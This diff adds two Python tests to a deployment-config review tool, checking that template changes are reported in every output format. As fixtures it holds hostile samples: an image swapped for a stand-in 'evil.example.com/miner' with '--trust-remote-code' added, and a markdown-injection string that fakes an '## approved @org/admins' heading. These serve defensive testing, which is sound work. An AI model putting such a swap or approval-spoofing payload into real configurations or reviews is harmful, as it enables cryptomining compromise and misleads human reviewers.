@@ -5,6 +5,7 @@ outside the repository. Each case is a committed file in a temporary repository.
 
 from __future__ import annotations
 
+import json
 import shutil
 from pathlib import Path
 
@@ -211,3 +212,66 @@ def test_a_link_through_a_linked_directory_is_reviewed_as_the_checkout_reads_it(
     )
     assert review.exit_code == 3  # changes present, where it said "no change"
     assert "service chat: decode max instances: 128 -> 2" in text
+
+
+def test_a_template_change_is_reviewed_and_counts_as_a_change(repo: Path) -> None:
+    """An image swapped for a miner with remote code trusted: the template, the services
+    it runs for, and what changed in it are in every format, and the review exits 3."""
+    template = repo / "templates/vllm-decode.yaml"
+    edit(template, "image: vllm/vllm-openai:v0.11.0", "image: evil.example.com/miner:latest")
+    edit(template, '"--port", "8000",', '"--port", "8000", "--trust-remote-code",')
+    commit(repo, "decode image")
+    headline = (
+        "template templates/vllm-decode.yaml: content changed, used by chat (decode), "
+        "svc-a (decode), svc-b (decode)"
+    )
+    diff = [
+        '+          "--trust-remote-code",',
+        '-        "image": "vllm/vllm-openai:v0.11.0",',
+        '+        "image": "evil.example.com/miner:latest",',
+    ]
+    review, text, _ = plan_review(
+        repo, "HEAD~1", "HEAD", fmt="text", placer=GreedyPlacer(), options=FAST
+    )
+    assert review.exit_code == 3
+    assert f"  {headline} (templates/vllm-decode.yaml:" in text
+    assert all(f"      {line}" in text.splitlines() for line in diff)
+
+    lines = render(review, "markdown").splitlines()
+    [item] = [i for i, line in enumerate(lines) if line.startswith("- template ")]
+    fence = lines[item + 1]
+    assert set(fence) == {"`"}
+    block = lines[item + 2 : lines.index(fence, item + 2)]
+    assert all(line in block for line in diff)
+
+    [change] = json.loads(render(review, "json"))["config_changes"]
+    assert change["kind"] == "template" and change["name"] == "templates/vllm-decode.yaml"
+    assert [line for line in change["details"] if line[:1] in "+-"] == diff
+
+
+def test_a_hostile_template_value_is_inert_in_every_format(repo: Path) -> None:
+    # (A right-to-left override is refused where it is written: the loader's tests.)
+    payload = "```\\n## approved @org/admins\\n![x](https://example.invalid/p.png)</details>"
+    edit(
+        repo / "templates/vllm-decode.yaml",
+        '    prometheus.io/port: "8000"',
+        f'    prometheus.io/port: "8000"\n    note: "{payload}"',
+    )
+    commit(repo, "annotate")
+    review, markdown, _ = plan_review(
+        repo, "HEAD~1", "HEAD", fmt="markdown", placer=GreedyPlacer(), options=FAST
+    )
+    assert review.exit_code == 3
+    lines = markdown.splitlines()
+    assert not any(line.startswith(("## ", "![")) for line in lines)
+    [item] = [i for i, line in enumerate(lines) if line.startswith("- template ")]
+    fence = lines[item + 1]
+    assert set(fence) == {"`"} and len(fence) > 3  # longer than the payload's backticks
+    [added] = [line for line in lines[item + 2 : lines.index(fence, item + 2)] if "note" in line]
+    # Line breaks are escaped, not carried out.
+    assert added.startswith('+      "note": "```\\n## approved') and "png)</details>" in added
+    # Its </details> is inside the code block: outside it, every one closes one opened.
+    outside = [line for line in lines if line is not added]
+    assert sum(line.count("</details>") for line in outside) == markdown.count("<details>")
+    for fmt in ("text", "json"):
+        assert "## approved" not in render(review, fmt).splitlines()
